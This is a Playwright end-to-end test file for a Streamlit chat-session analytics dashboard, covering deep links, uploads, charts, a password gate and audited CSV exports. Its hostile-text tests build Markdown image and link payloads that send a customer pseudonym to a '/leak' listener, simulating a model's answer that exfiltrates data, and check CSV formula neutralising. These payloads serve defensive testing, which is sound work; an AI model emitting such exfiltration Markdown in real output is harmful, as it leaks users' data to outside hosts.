"""End to end in a real headless Chromium: `streamlit run app.py` on 127.0.0.1, driven by Playwright.

Debian's chromium (`make test` installs it); Playwright's own browser downloads are not used.
Screenshots of each page go to test-artifacts/ for a person to look at.
"""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pandas as pd
import pytest
from support import FAKE_API_KEY, ROOT
from support import fakellm as fk
from support.hostile import hostile_dataset_name, hostile_records

from chatkit.analytics import frame
from chatkit.domain import sample
from chatkit.domain.models import ChatKitSession
from chatkit.domain.text import csv_cell
from chatkit.settings import Settings
from chatkit.store import Store, datasets

pytestmark = pytest.mark.browser


ARTIFACTS = ROOT / "test-artifacts"
CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
WAIT_MS = 60_000

if not Path(CHROMIUM).exists():
    pytest.skip(
        f"{CHROMIUM} is not installed (make test installs Debian's chromium)", allow_module_level=True
    )

from playwright.sync_api import Browser, Locator, Page, expect, sync_playwright  # noqa: E402

expect.set_options(timeout=WAIT_MS)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Server:
    def __init__(self, data_dir: Path, log: Path, **extra_env: str) -> None:
        self.data_dir = data_dir
        self.port = _free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.log = log
        env = {k: v for k, v in os.environ.items() if not k.startswith(("LLM_", "CHATKIT_"))}
        env.update(CHATKIT_DATA_DIR=str(data_dir), LLM_PROVIDER="offline")
        env.update(extra_env)  # may point the analyzer at a fake LLM
        self.process = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "streamlit",
                "run",
                "app.py",
                "--server.headless",
                "true",
                "--server.address",
                "127.0.0.1",
                "--server.port",
                str(self.port),
                "--browser.gatherUsageStats",
                "false",
                "--server.fileWatcherType",
                "none",
            ],
            cwd=ROOT,
            env=env,
            stdout=log.open("w"),
            stderr=subprocess.STDOUT,
        )

    def wait_healthy(self, timeout: float = 60) -> None:
        """Polls Streamlit's health endpoint only: no page is requested before the test's first one."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if self.process.poll() is not None:
                raise RuntimeError(f"streamlit exited:\n{self.log.read_text()}")
            try:
                with urllib.request.urlopen(f"{self.url}/_stcore/health", timeout=2) as response:
                    if response.status == 200:
                        return
            except OSError:
                time.sleep(0.3)
        raise RuntimeError(f"streamlit did not start:\n{self.log.read_text()}")

    def stop(self) -> None:
        self.process.terminate()
        try:
            self.process.wait(10)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait(10)


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    ARTIFACTS.mkdir(exist_ok=True)
    data_dir = tmp_path_factory.mktemp("browser-data")
    running = Server(data_dir, ARTIFACTS / "streamlit.log")
    try:
        yield running
    finally:
        running.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield launched
        launched.close()


def new_page(browser: Browser) -> Page:
    """A fresh browser context: no cookies, no session state, like a colleague opening a link."""
    context = browser.new_context(viewport={"width": 1440, "height": 1000})
    context.set_default_timeout(WAIT_MS)
    return context.new_page()


def settle(page: Page) -> None:
    """Wait until Streamlit has finished the current script run."""
    page.wait_for_selector("[data-testid='stApp']")
    page.wait_for_function(
        '() => !document.querySelector(\'[data-testid="stStatusWidget"] [data-testid="stStatusWidgetRunningIcon"]\')'
    )
    page.wait_for_timeout(500)


def shot(page: Page, name: str) -> None:
    """The whole page: Streamlit scrolls inside its main block, so grow the window to fit it first."""
    size = page.viewport_size or {"width": 1440, "height": 1000}
    height = page.evaluate(
        '() => Math.max(...[...document.querySelectorAll(\'[data-testid="stMain"], '
        '[data-testid="stSidebarContent"]\')].map(e => e.scrollHeight))'
    )
    page.set_viewport_size({"width": size["width"], "height": min(max(height, size["height"]), 6000)})
    page.wait_for_timeout(800)
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)
    page.set_viewport_size(size)


def share_link(page: Page) -> str:
    code = page.locator("[data-testid='stSidebar'] [data-testid='stCode'] code").first
    return code.inner_text().strip()


def test_dashboard_end_to_end(server: Server, browser: Browser) -> None:
    # A data set already in the store, and a deep link to it as the very first page request.
    store = Store.from_settings(Settings(_env_file=None, chatkit_data_dir=server.data_dir))
    sessions = sample.sample_sessions(150)
    dataset_id = store.save_dataset("Seeded sample", sessions, ["seed.json"])
    target = next(s for s in sessions if s.status == "cancelled" and s.current_requests)
    store.close()
    server.wait_healthy()

    page = new_page(browser)
    page.goto(f"{server.url}/session?ds={dataset_id}&sid={target.id}")
    expect(page.get_by_text("Root cause").first).to_be_visible()
    settle(page)
    sidebar = page.locator("[data-testid='stSidebar']")
    expect(sidebar.get_by_text("Offline analyzer")).to_be_visible()
    # The menu is the dashboard's own (titles, not file names), even though app.py did not run.
    expect(sidebar.get_by_role("link", name=re.compile("Batch report"))).to_be_visible()
    expect(sidebar.get_by_role("link", name="app")).to_have_count(0)
    assert f"sid={target.id}" in share_link(page)
    shot(page, "1_deep_link_session")

    # Import: upload a CSV through the file input, read the report, save, land on the Overview.
    csv = ARTIFACTS / "upload.csv"
    pd.json_normalize(sample.sample_records(80, seed=11)).to_csv(csv, index=False)
    page.goto(f"{server.url}/import_data")
    page.locator("[data-testid='stFileUploader'] input[type='file']").set_input_files(str(csv))
    expect(page.get_by_text("Import report")).to_be_visible()
    expect(page.locator("[data-testid='stMetric']").filter(has_text="Sessions read")).to_contain_text("80")
    settle(page)
    shot(page, "2_import_report")
    name_box = page.get_by_label("Data set name")
    name_box.fill("Uploaded CSV")
    page.get_by_role("button", name="Save and open the Overview").click()

    # Overview: every chart draws (Plotly SVG or WebGL canvas present).
    page.wait_for_url(re.compile(r".*/overview\?.*ds=.*|.*/\?.*ds=.*"))
    expect(page.locator(".js-plotly-plot")).to_have_count(6)
    page.wait_for_function(
        "() => [...document.querySelectorAll('.js-plotly-plot')].every(p => p.querySelector('svg.main-svg, canvas'))"
    )
    expect(page.get_by_text("Uploaded CSV").first).to_be_visible()
    settle(page)
    shot(page, "3_overview")
    uploaded_id = re.search(r"ds=([0-9a-f]+)", page.url).group(1)
    assert uploaded_id != dataset_id

    # Session: pick one by typing its id; the offline report renders.
    pick = sample.sample_records(80, seed=11)[5]["id"]
    page.goto(f"{server.url}/session?ds={uploaded_id}")
    settle(page)
    picker = page.locator("[data-testid='stSelectbox']").filter(has_text="Session").locator("input")
    picker.click()
    picker.fill(pick)
    page.keyboard.press("Enter")
    expect(page.get_by_text("Root cause").first).to_be_visible()
    page.wait_for_url(re.compile(rf".*sid={pick}.*"))
    settle(page)
    link = share_link(page)
    assert link.startswith(server.url) and f"sid={pick}" in link and f"ds={uploaded_id}" in link
    shot(page, "4_session")

    # The share link in a fresh browser context shows the same data set and session.
    colleague = new_page(browser)
    colleague.goto(link)
    expect(colleague.get_by_text("Root cause").first).to_be_visible()
    settle(colleague)
    expect(colleague.get_by_role("combobox", name="Data set")).to_have_value(re.compile("Uploaded CSV"))
    expect(colleague.get_by_role("combobox", name=re.compile("^Session"))).to_have_value(re.compile(pick))
    shot(colleague, "5_shared_link")
    colleague.context.close()

    # Batch report: runs in the background, the page follows it to the end and offers downloads.
    page.goto(f"{server.url}/batch_report?ds={uploaded_id}&cat=rate_limited")
    page.get_by_role("button", name="Start batch").click()
    expect(page.get_by_text(re.compile(r"^Done: \d+ sessions analyzed"))).to_be_visible()
    expect(page.get_by_role("button", name="Per-session diagnosis (CSV)")).to_be_visible()
    settle(page)
    shot(page, "6_batch_report")

    page.goto(f"{server.url}/settings")
    expect(page.get_by_role("button", name="Test connection")).to_be_visible()
    settle(page)
    shot(page, "7_settings")
    page.context.close()

    log = server.log.read_text()
    assert "Traceback" not in log, log[-3000:]


def test_a_password_gate_meets_a_deep_link_as_the_first_request(
    browser: Browser, tmp_path_factory: pytest.TempPathFactory
) -> None:
    data_dir = tmp_path_factory.mktemp("gated-data")
    store = Store.from_settings(Settings(_env_file=None, chatkit_data_dir=data_dir))
    sessions = sample.sample_sessions(40)
    dataset_id = store.save_dataset("Gated sample", sessions, ["seed.json"])
    target = sessions[3]
    store.close()
    gated = Server(data_dir, ARTIFACTS / "streamlit-gated.log", DASHBOARD_PASSWORD="open sesame")
    try:
        gated.wait_healthy()
        page = new_page(browser)
        page.goto(f"{gated.url}/session?ds={dataset_id}&sid={target.id}")
        password = page.get_by_label("Password", exact=True)
        expect(password).to_be_visible()
        expect(page.get_by_text("Root cause")).to_have_count(0)
        expect(page.get_by_text(target.id)).to_have_count(0)
        settle(page)
        shot(page, "0_sign_in")

        password.fill("not it")
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_text("That password is not right")).to_be_visible()
        expect(page.get_by_text("You can try again in 1 s")).to_be_visible()  # the throttle's delay
        expect(page.get_by_text("Root cause")).to_have_count(0)
        page.wait_for_timeout(1200)

        page.get_by_label("Password", exact=True).fill("open sesame")
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_text("Root cause").first).to_be_visible()
        assert f"sid={target.id}" in page.url  # the linked view opens once signed in
        page.context.close()
        assert "Traceback" not in gated.log.read_text()
    finally:
        gated.stop()


def session_grid(page: Page) -> Locator:
    """The session table's grid: st.dataframe draws on a canvas, but keeps an ARIA table beside it."""
    return page.locator("[data-testid='stDataFrame']").filter(has_text="customer_id").locator("[role='grid']")


def sessions_shown(page: Page, count: int) -> None:
    """The session table lists `count` sessions: the page's own caption, and the grid's row count."""
    expect(page.get_by_text(re.compile(rf"^{count:,} sessions\. Select a row"))).to_be_visible()
    expect(session_grid(page)).to_have_attribute("aria-rowcount", str(count + 1))  # + its header row


# As a person finds it: the bar segments level with the axis label, widest first (empty ones draw nothing).
_MARK_BAR = """(gd, label) => {
    const tick = [...gd.querySelectorAll("g.ytick text")].find(t => t.textContent === label);
    if (!tick) return false;
    const at = tick.getBoundingClientRect(), y = at.top + at.height / 2;
    const level = [...gd.querySelectorAll("g.trace.bars g.point path")]
        .map(path => [path, path.getBoundingClientRect()])
        .filter(([, r]) => r.width > 0 && r.top < y && y < r.bottom)
        .sort(([, a], [, b]) => b.width - a.width);
    if (!level.length) return false;
    level[0][0].setAttribute("data-test-bar", label);
    return true;
}"""


def test_a_click_on_a_bar_narrows_the_session_table(server: Server, browser: Browser) -> None:
    # Its own data set; the expectation comes from chatkit's own facts frame of it.
    store = Store.from_settings(Settings(_env_file=None, chatkit_data_dir=server.data_dir))
    dataset_id = store.save_dataset("Chart pick", sample.sample_sessions(120, seed=23), ["pick.json"])
    facts = datasets.facts_frame(store, dataset_id)
    store.close()
    assert facts is not None
    ranked = frame.counts_by(facts, "workflow_id")
    # The second bar from the top: not simply the first thing drawn, and its count is its own.
    workflow, expected = str(ranked["workflow_id"][1]), int(ranked["count"][1])
    assert ranked["cancellations"][1] > 0 and (ranked["count"] == expected).sum() == 1
    assert expected == int((facts["workflow_id"] == workflow).sum()) < len(facts)
    server.wait_healthy()

    page = new_page(browser)
    page.goto(f"{server.url}/overview?ds={dataset_id}")
    expect(page.locator(".js-plotly-plot")).to_have_count(6)
    column = page.locator("[data-testid='stColumn']").filter(has_text="Top workflows by cancellations")
    plot = column.locator(".js-plotly-plot")
    expect(plot.locator("g.trace.bars g.point path")).not_to_have_count(0)
    settle(page)
    sessions_shown(page, len(facts))
    expect(page.get_by_text("Narrowed by your selection")).to_have_count(0)

    # A real mouse click in the middle of that workflow's bar (Plotly hit-tests the drag layer above it).
    plot.scroll_into_view_if_needed()
    assert plot.evaluate(_MARK_BAR, workflow)
    box = plot.locator(f"path[data-test-bar='{workflow}']").bounding_box()
    assert box is not None and box["width"] > 4
    page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)

    expect(
        page.get_by_text("Narrowed by your selection on: Top workflows by cancellations (1)")
    ).to_be_visible()
    sessions_shown(page, expected)
    grid = session_grid(page)
    expect(grid).to_contain_text(workflow)
    for other in ranked["workflow_id"]:
        if other != workflow:
            expect(grid).not_to_contain_text(str(other))
    settle(page)
    shot(page, "8_chart_selection")
    page.context.close()
    assert "Traceback" not in server.log.read_text()


def _export_rows(server: Server, dataset_id: str) -> list[dict]:
    """The data set's `export` audit rows, once the click's rerun has written one (30 s at most)."""
    deadline = time.monotonic() + 30
    while True:
        check = Store.from_settings(Settings(_env_file=None, chatkit_data_dir=server.data_dir))
        exports = check.audit_log(actions=["export"], dataset_id=dataset_id)
        check.close()
        if exports or time.monotonic() >= deadline:
            return exports
        time.sleep(0.2)


def test_a_table_offers_no_toolbar_download_only_its_audited_button(server: Server, browser: Browser) -> None:
    """Streamlit's toolbar download bypassed the audit log: it is off (client.disableDataExport), and
    the table's own button sends formula-neutral bytes and writes an export row."""
    store = Store.from_settings(Settings(_env_file=None, chatkit_data_dir=server.data_dir))
    sessions = [ChatKitSession.model_validate(r) for r in hostile_records()]
    dataset_id = store.save_dataset("Exports", sessions, ["exports.json"])
    store.close()
    server.wait_healthy()

    page = new_page(browser)
    page.goto(f"{server.url}/overview?ds={dataset_id}")
    expect(page.get_by_text(re.compile(rf"^{len(sessions)} sessions\. Select a row"))).to_be_visible()
    settle(page)
    # The session table is the page's first; it is drawn once scrolled into view (and its grid names
    # only the columns in view: the hostile ids are wide).
    page.get_by_text(re.compile(r"sessions\. Select a row")).scroll_into_view_if_needed()
    table = (
        page.locator("[data-testid='stElementContainer']")
        .filter(has=page.locator("[data-testid='stDataFrame']"))
        .first
    )
    table.scroll_into_view_if_needed()
    expect(table.locator("[role='grid']")).to_have_attribute("aria-rowcount", str(len(sessions) + 1))
    table.hover()
    # The toolbar is there (its search), without the download.
    expect(table.get_by_role("button", name="Search")).to_be_visible()
    expect(table.get_by_role("button", name="Download as CSV")).to_have_count(0)
    expect(page.get_by_role("button", name="Download as CSV")).to_have_count(0)
    shot(page, "9_table_toolbar")

    with page.expect_download() as download:
        page.get_by_role("button", name="Download CSV").first.click()
    saved = pd.read_csv(download.value.path(), dtype=str, keep_default_na=False)
    cells = [*saved.columns, *saved.to_numpy().ravel().tolist()]
    assert len(saved) == len(sessions) and any(c.startswith("'=") for c in cells)
    assert not [c for c in cells if csv_cell(c) != c]
    (row,) = _export_rows(server, dataset_id)
    assert row["actor"] == "local" and row["detail"] == f"Overview session table: {len(sessions)} rows"
    page.context.close()
    assert "Traceback" not in server.log.read_text()


# ---- hostile text: nothing is fetched, nothing links ----------------------------------------------
# A listener on 127.0.0.1 records every request; the hostile corpus (tests/support/hostile.py) points
# at it from every field of a data set: Overview (with a share link quoting hostile values), every
# Session page (offline report), Batch report, Import (uploading the same sessions) and Settings on an
# offline server; then a Session report, an unstructured answer and a batch summary from the fake
# LLM answering hostile Markdown with the customer's pseudonym inside URLs. Zero requests may reach
# the listener, and no element's href or src may point at it.


class Listener:
    """An HTTP server on 127.0.0.1 that answers 204 to anything and remembers every request."""

    def __init__(self) -> None:
        requests: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: object) -> None:
                pass

            def _any(self) -> None:
                requests.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.end_headers()

            do_GET = do_POST = do_HEAD = do_OPTIONS = do_PUT = _any

        self.requests = requests
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    ARTIFACTS.mkdir(exist_ok=True)
    running = Listener()
    try:
        yield running
    finally:
        running.stop()


# Every URL-bearing attribute of every element, SVG (Plotly) included.
_URLS = """() => [...document.querySelectorAll('*')].flatMap(e => [...e.attributes]
    .filter(a => ['href', 'src', 'srcset', 'poster', 'action', 'formaction', 'xlink:href', 'data'].includes(a.name))
    .map(a => `${e.tagName.toLowerCase()}[${a.name}]=${a.value}`))"""


def assert_nothing_points_at(page: Page, listener: Listener, where: str) -> None:
    page.wait_for_timeout(300)  # an image or prefetch would have been asked for by now
    pointing = [u for u in page.evaluate(_URLS) if f"127.0.0.1:{listener.port}" in u]
    assert not pointing, (where, pointing)
    assert not listener.requests, (where, listener.requests)


def _sessions(port: int) -> list[ChatKitSession]:
    return [ChatKitSession.model_validate(r) for r in hostile_records(port)]


def _seed(data_dir: Path, port: int) -> str:
    store = Store.from_settings(Settings(_env_file=None, chatkit_data_dir=data_dir))
    try:
        return store.save_dataset(hostile_dataset_name(port), _sessions(port), ["hostile.json"])
    finally:
        store.close()


def test_hostile_sessions_fetch_and_link_nothing_offline(
    browser: Browser, listener: Listener, tmp_path_factory: pytest.TempPathFactory
) -> None:
    port = listener.port
    data_dir = tmp_path_factory.mktemp("hostile-offline")
    dataset_id = _seed(data_dir, port)
    sessions = _sessions(port)
    server = Server(data_dir, ARTIFACTS / "streamlit-hostile.log")
    try:
        server.wait_healthy()
        page = new_page(browser)
        image = f"![x](http://127.0.0.1:{port}/leak/notice.png)"
        query = {"ds": dataset_id, "wf": image, "from": image + "9" * 500}
        page.goto(f"{server.url}/overview?" + "&".join(f"{k}={v}" for k, v in query.items()))
        expect(page.get_by_text("Parts of this link were ignored")).to_be_visible()
        expect(page.locator(".js-plotly-plot")).to_have_count(6)
        settle(page)
        # Hover a point so Plotly draws a hover label with a hostile id in it.
        plot = page.locator(".js-plotly-plot").first
        plot.scroll_into_view_if_needed()
        box = plot.bounding_box()
        if box:
            page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
        shot(page, "hostile_1_overview")
        assert_nothing_points_at(page, listener, "overview")

        for session in sessions[1::2]:
            page.goto(f"{server.url}/session?ds={dataset_id}&sid={session.id}")
            expect(page.get_by_text("Root cause").first).to_be_visible()
            settle(page)
            assert_nothing_points_at(page, listener, session.id)
        page.goto(f"{server.url}/session?ds={dataset_id}&sid={sessions[1].id}")
        expect(page.get_by_text("Root cause").first).to_be_visible()
        settle(page)
        shot(page, "hostile_2_session_offline")

        page.goto(f"{server.url}/batch_report?ds={dataset_id}")
        page.get_by_role("button", name="Start batch").click()
        expect(page.get_by_text(re.compile(r"^Done: \d+ sessions analyzed"))).to_be_visible()
        settle(page)
        shot(page, "hostile_3_batch")
        assert_nothing_points_at(page, listener, "batch")

        upload = ARTIFACTS / "hostile.json"
        upload.write_text(json.dumps(hostile_records(port)))
        page.goto(f"{server.url}/import_data")
        page.locator("[data-testid='stFileUploader'] input[type='file']").set_input_files(str(upload))
        expect(page.get_by_text("Import report")).to_be_visible()
        settle(page)
        shot(page, "hostile_4_import")
        assert_nothing_points_at(page, listener, "import")

        page.goto(f"{server.url}/settings")
        expect(page.get_by_role("button", name="Test connection")).to_be_visible()
        settle(page)
        shot(page, "hostile_5_settings")
        assert_nothing_points_at(page, listener, "settings")
        page.context.close()
        assert "Traceback" not in server.log.read_text()
    finally:
        server.stop()


def _hostile_markdown(port: int, alias: str) -> str:
    leak = f"http://127.0.0.1:{port}/leak"
    return (
        f"Customer {alias} was cut off. ![status]({leak}.png?c={alias}) [Sign in again]({leak}/login?c={alias})"
        f" <{leak}/auto?c={alias}> <img src={leak}/raw.png> see {leak}/bare?c={alias}\n\n"
        f"[ref][r] ![logo][r]\n\n[r]: {leak}/ref.png?c={alias}\n\n````\n```\n````\n![f]({leak}/fence.png)"
    )


def test_hostile_llm_answers_fetch_and_link_nothing(
    browser: Browser, listener: Listener, fake_llm: fk.FakeLLM, tmp_path_factory: pytest.TempPathFactory
) -> None:
    port = listener.port
    data_dir = tmp_path_factory.mktemp("hostile-llm")
    dataset_id = _seed(data_dir, port)
    sessions = _sessions(port)
    target = next(s for s in sessions[1::2] if "pseudonym" in s.reason or s.customer_id)
    env = {
        "LLM_PROVIDER": "openai",
        "LLM_API_KEY": FAKE_API_KEY,
        "LLM_BASE_URL": fake_llm.base_url,
        "LLM_MODEL": "fake/model-1",
        "LLM_REQUESTS_PER_MINUTE": "1000",
        "LLM_TIMEOUT_S": "5",
    }
    server = Server(data_dir, ARTIFACTS / "streamlit-hostile-llm.log", **env)
    try:
        server.wait_healthy()
        page = new_page(browser)
        page.goto(f"{server.url}/session?ds={dataset_id}&sid={target.id}")
        expect(page.get_by_text("Root cause").first).to_be_visible()
        settle(page)
        # The model only ever saw the pseudonym; it builds URLs from it.
        prompt = fake_llm.completions[-1].prompt_text
        alias = re.search(r'"customer_id":\s*"(cust_[0-9a-f]{8})"', prompt).group(1)
        hostile = _hostile_markdown(port, alias)
        fake_llm.push(
            fk.good_json(
                fk.report_dict(
                    root_cause={"category": "rate_limited", "summary": hostile, "evidence": [hostile]},
                    impact=hostile,
                    recovery_steps=[hostile],
                )
            )
        )
        page.get_by_role("button", name="Analyze again").click()
        expect(page.get_by_text("was cut off").first).to_be_visible()
        settle(page)
        shot(page, "hostile_6_session_llm")
        assert_nothing_points_at(page, listener, "session (LLM)")
        shown = page.locator("[data-testid='stMain']").inner_text()
        # the injection guard removed every item and sentence carrying a URL, and says so in the fact check
        assert f"c={alias}" not in shown, "a URL the model built from the pseudonym is not shown"
        assert "it carries a URL no fact has" in shown

        # An unstructured answer: shown in a fence the answer cannot break out of.
        fake_llm.push(fk.text(hostile), fk.text(hostile))
        page.get_by_role("button", name="Analyze again").click()
        expect(page.get_by_text("could not be read as a structured report").first).to_be_visible()
        settle(page)
        assert_nothing_points_at(page, listener, "session (unstructured LLM answer)")

        # A batch summary the model writes in hostile Markdown.
        page.goto(f"{server.url}/batch_report?ds={dataset_id}")
        page.get_by_role("button", name="Start batch").click()
        expect(page.get_by_text(re.compile(r"^Done: \d+ sessions analyzed"))).to_be_visible()
        settle(page)
        summarize = page.get_by_role("button", name=re.compile("^Summarize"))
        if summarize.count():
            fake_llm.push(fk.text(hostile))
            summarize.click()
            expect(page.get_by_text("was cut off").first).to_be_visible()
            settle(page)
        shot(page, "hostile_7_batch_llm")
        assert_nothing_points_at(page, listener, "batch (LLM)")
        page.context.close()
        assert "Traceback" not in server.log.read_text()
    finally:
        server.stop()


def test_a_table_longer_than_it_shows_downloads_every_matching_row(server: Server, browser: Browser) -> None:
    """The session table shows the 1,000 most severe sessions; its download (made when clicked, not
    on every rerun) holds every matching one, in the same order, and the audit row counts them all."""
    store = Store.from_settings(Settings(_env_file=None, chatkit_data_dir=server.data_dir))
    sessions = sample.sample_sessions(1_200, seed=11)
    dataset_id = store.save_dataset("Longer than shown", sessions, ["long.json"])
    store.close()
    server.wait_healthy()

    page = new_page(browser)
    page.goto(f"{server.url}/overview?ds={dataset_id}")
    expect(page.get_by_text(re.compile(r"^Showing 1,000 of 1,200 sessions"))).to_be_visible()
    settle(page)
    with page.expect_download() as download:
        page.get_by_role("button", name="Download all 1,200 as CSV").click()
    saved = pd.read_csv(download.value.path(), dtype=str, keep_default_na=False)
    assert len(saved) == 1_200 and saved["session_id"].is_unique
    assert set(saved["session_id"]) == {s.id for s in sessions}
    order = {"critical": 0, "warning": 1, "info": 2}
    ranks = [order[s] for s in saved["severity"]]
    assert ranks == sorted(ranks)  # the table's order: the most severe first
    (row,) = _export_rows(server, dataset_id)
    assert row["detail"] == "Overview session table: 1,200 rows"
    page.context.close()
    assert "Traceback" not in server.log.read_text()
